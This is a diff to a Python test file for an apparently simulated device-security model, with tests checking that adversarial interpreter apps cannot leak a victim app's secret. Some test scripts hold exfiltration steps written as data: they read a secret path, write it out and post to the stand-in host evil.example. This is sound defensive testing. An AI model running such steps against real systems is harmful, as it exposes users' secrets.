@@ -17,7 +17,8 @@ from repro.apps import ADVERSARIAL_PACKAGES, ALL_PACKAGES, install_full_corpus
 from repro.apps.adversarial import exfil_browser, interpreter, launderer, leaky_provider
 from repro.core.device import Device
 from repro.errors import ReproError, SecurityException
-from repro.fuzz.harness import SECRET, SECRET_PATH, VICTIM_PACKAGE
+from repro.fuzz.harness import SECRET, SECRET_PATH, VICTIM_PACKAGE, FuzzWorld
+from repro.fuzz.ops import RunScript, Spawn
 from repro.obs import OBS
 from repro.obs.monitor import SecurityMonitor
 
@@ -63,7 +64,7 @@ def test_interpreter_delegate_reads_but_cannot_publish(monitored):
     app = device.apps[interpreter.PACKAGE]
     app.run_script(api, f"read {SECRET_PATH}\nexfil loot.bin\npost evil.example x")
     # The read succeeded (delegates see the initiator's view)...
-    assert app.accumulator == SECRET
+    assert app.accumulator(api) == SECRET
     outcomes = dict(app.transcript)
     assert outcomes[f"read {SECRET_PATH}"].startswith("ok")
     # ...the beacon died (delegates are offline)...
@@ -88,8 +89,30 @@ def test_interpreter_negative_control_without_delegation(monitored):
     app = device.apps[interpreter.PACKAGE]
     app.run_script(api, f"read {SECRET_PATH}\nexfil loot.bin\nclip-copy")
     assert dict(app.transcript)[f"read {SECRET_PATH}"] == "err:PermissionDenied"
-    assert app.accumulator == b""
+    assert app.accumulator(api) == b""
     assert monitor.violations == []
+
+
+def test_plain_interpreter_cannot_publish_what_its_delegate_read():
+    """The delegate instance reads the victim's secret; a plain instance
+    of the same package then exfiltrates. Its public drop must hold only
+    what that process itself loaded: nothing."""
+    delegate = f"{interpreter.PACKAGE}^{VICTIM_PACKAGE}"
+    ops = [
+        Spawn(VICTIM_PACKAGE),
+        Spawn(interpreter.PACKAGE, VICTIM_PACKAGE),
+        RunScript(delegate, f"read {SECRET_PATH}"),
+        Spawn(interpreter.PACKAGE),
+        RunScript(interpreter.PACKAGE, "exfil x"),
+    ]
+    with FuzzWorld() as world:
+        outcomes = [world.step(op) for op in ops]
+        assert outcomes[2] == outcomes[4] == "executed 1"
+        observer = world.device.spawn(launderer.PACKAGE)
+        drop = observer.read_external(f"{interpreter.DROP_DIR}/x")
+    assert SECRET not in drop
+    assert drop == b""
+    assert world.monitor.violations == []
 
 
 # ---------------------------------------------------------------------------
